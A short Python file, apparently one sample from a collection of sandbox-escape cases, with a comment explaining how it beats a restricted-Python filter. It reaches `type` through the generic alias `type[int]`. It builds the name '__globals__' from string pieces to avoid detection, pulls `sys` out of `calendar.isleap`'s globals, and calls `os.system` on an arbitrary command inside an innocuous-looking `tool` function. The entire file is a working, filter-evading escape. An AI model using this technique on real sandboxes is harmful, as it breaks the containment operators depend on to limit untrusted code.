# family: handout
# Escape: type[int](x) calls type(x) through the generic alias (accepted as an operand use of `type`), so
# it hands out the attrgetter class. calendar.isleap.__globals__ (run-time name) holds sys, and
# sys.modules["os"] is the os module.
import calendar
import operator


def tool(cmd: str) -> int:
    Getter = type[int](operator.attrgetter("real"))
    edge = "_" * 2
    sys_module = Getter(edge + "globals" + edge)(calendar.isleap)["sys"]
    return sys_module.modules["os"].system(cmd)
